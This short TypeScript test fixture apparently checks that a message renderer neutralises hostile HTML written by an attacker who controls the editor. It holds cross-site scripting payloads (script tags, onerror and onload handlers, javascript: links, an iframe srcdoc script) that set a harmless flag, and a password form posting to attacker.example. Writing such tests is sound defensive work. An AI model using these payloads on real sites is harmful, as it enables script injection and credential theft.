/** A message as an attacker who gained the platform's editor would write it. Any script that runs sets `data-attacked`. */
export const hostileMessage = {
  title: 'Cup & prizes <img src=x onerror="document.documentElement.dataset.attacked=1">',
  content: [
    '<p>Twelve tables, one cup.</p>',
    '<script>document.documentElement.dataset.attacked = 1</script>',
    '<img src="x" onerror="document.documentElement.dataset.attacked=1">',
    '<svg onload="document.documentElement.dataset.attacked=1"><a href="javascript:document.documentElement.dataset.attacked=1">Play</a></svg>',
    '<a href="javascript:document.documentElement.dataset.attacked=1">Enter</a>',
    '<form action="https://attacker.example"><input name="password"></form>',
    '<style>body { display: none }</style>',
    '<iframe srcdoc="<script>parent.document.documentElement.dataset.attacked=1</script>"></iframe>',
  ].join(''),
};
